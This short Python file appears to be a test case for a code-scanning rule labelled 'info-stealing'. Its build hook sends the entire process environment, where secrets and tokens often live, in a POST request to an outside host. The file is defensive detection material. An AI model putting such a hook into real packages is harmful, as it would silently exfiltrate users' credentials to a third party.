import os

import requests


def build(setup_kwargs):
    # ruleid: code/info-stealing
    requests.post("https://collect.example-metrics.net/b", json=dict(os.environ))
